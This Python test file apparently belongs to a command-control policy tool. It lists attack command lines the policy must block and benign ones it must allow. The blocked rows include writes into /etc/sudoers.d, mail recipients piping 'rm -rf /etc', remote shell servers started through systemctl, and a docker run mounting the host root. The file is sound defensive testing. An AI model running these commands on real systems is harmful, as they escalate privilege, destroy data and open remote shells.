"""Attacks s28f, s28i and s28o (the session after r27): rows judged typed and as an exec
command. s28o, finding 1: OpenSSH's scp reads options only up to its first operand, so
`scp evil -t -l DIR` is a local copy into DIR (judged as `cp -- evil -t -l DIR`), not the
server side of a transfer."""

from bastion.command_control.policy.model import Policy
from tests.policy_rows import HELD, typed_and_exec
from tests.rows import each

ROWS = [
    "scp evil -t -l /etc/sudoers.d", "scp evil -l /etc/sudoers.d", "scp evil -o /etc/sudoers.d",
    "scp -r dir -t -c /etc/sudoers.d", "scp evil -f -P /etc/sudoers.d", "sudo scp evil -t -F /etc/sudoers.d",
    "scp evil -J /etc/sudoers.d", "scp shadow -i /etc",
    # POSIXLY_CORRECT stops GNU's options at the first operand (the login may set it)
    "cp evil -t x /etc/sudoers.d", "POSIXLY_CORRECT=1 cp evil -t x /etc/sudoers.d",
    "mv x -t y /etc/sudoers.d", "install evil -t x /etc/sudoers.d/",
    # s28f, 24: a remote pattern lands under a name chosen over there; sftp's one-operand fetch
    "scp 'h:/x/*' /etc/", "scp h:/x/sudoer[s] /etc/", "scp -O 'h:/x/{a,b}' /etc/",
    "rsync 'h:/x/*' /etc/", "rsync 'h::mod/sudoer?' /etc/", "rsync 'rsync://h/mod/*' /etc/",
    "cd /etc && sftp h:/x/sudoers", "cd /etc && sftp 'h:/x/*'", "cd /etc && sftp -P 22 h:/x/shadow",
    # s28f, 25: a less key file's #env sets LESSOPEN
    "less -k /tmp/keys f", "less --lesskey-src=/tmp/k f", "less -Sk /tmp/k f", "zless -k x f",
    # t29f, 2: mail's pipe and file recipients
    "mail -s x '|rm -rf /etc'", "sudo mail -S expandaddr -s x /etc/sudoers", "mail -sx /etc/shadow",
    # t29f, 3: login servers started under words the unit reading missed
    "systemctl -P Id enable --now debug-shell", "systemctl --legend no start shellinabox",
    "systemctl -qP Id enable --now cockpit.socket", "service shellinabox --full-restart",
    "/etc/init.d/shellinabox start", "sudo /etc/init.d/openbsd-inetd restart",
    "chkconfig --level 35 rlogin on",
    # t29f, 12 and 13: text the line feeds a reader elsewhere, or telnet's own commands
    "pct enter 101 <<< 'rm -rf /etc'", "echo x | virsh console vm", "echo x | docker attach c",
    "echo x | docker run -i -v /:/host debian", "echo '!rm -rf /etc' | telnet", "telnet <<< '!id'",
    # t29f, 11: shell servers shared by link or cluster
    "upterm host", "sshx", "tty-share --public", "teleport start --roles=node",
    "systemctl enable --now teleport", "sudo kshd", "systemctl start kshell.socket",
    "echo 'rm -rf /etc' | toolbox enter",
    # s28f 18's sibling and 24's: go's options from the environment; legacy scp's remote shell
    "GOFLAGS=-o=/etc/sudoers go build .", "scp -O 'h:/x/$(echo sudoers)' /etc/",
    # u30f 6, 7, 8: mail's Cc and Bcc, sftp's local destination and its own split, an unchecked
    # legacy download
    "echo 'rm -rf /etc' | mail -s x -c '|sh' root", "mail -s x -cops@x,/etc/sudoers root",
    "sftp h:/x/y /etc/sudoers", "sftp 'h:/x/y /etc/sudoers'", "scp -O -T h:/x/y /etc/",
    "scp -O -r h:/x/y /etc/",
    # u30f 4: a trigger starts the unit --unit names, an existing one too
    "systemd-run --on-active=1 --unit=debug-shell", "systemd-run --on-calendar=now --unit=sshd",
    "systemd-run --on-active=30 -u shellinabox",
]
HONEST = ["scp -P 2222 f backup@h:/srv/", "scp h:/var/log/syslog /tmp/", "scp -t /tmp/upload",
          "cp a b -v", "rsync -av src/ dst/ --delete", "cp -t /tmp a b",
          "scp 'h:/var/log/*.log' /tmp/logs/", "sftp h:/srv/", "less -S f", "less -R --line-numbers f",
          "mail -s /etc/sudoers root", "mail -s 'disk full' ops@example.org", "systemctl status shellinabox",
          "systemctl start nginx", "/etc/init.d/nginx restart", "docker run -i debian < /dev/null",
          "tsh ls", "tctl status", "mail -s x -c ops@example.org root", "sftp h:/x/y /tmp/",
          "scp -r h:/srv/app /tmp/app", "systemd-run --on-active=60 --unit=backup /usr/local/bin/backup"]


@each("line", ROWS + HONEST)
@each("exec_command", [False, True], ids=["typed", "exec"])
def test_attack_s28_lines_are_held_and_honest_ones_run(default_policy: Policy, line: str,
                                                      exec_command: bool) -> None:
    verdict = typed_and_exec(default_policy, line)[exec_command]
    assert (verdict.action in HELD) is (line in ROWS), verdict
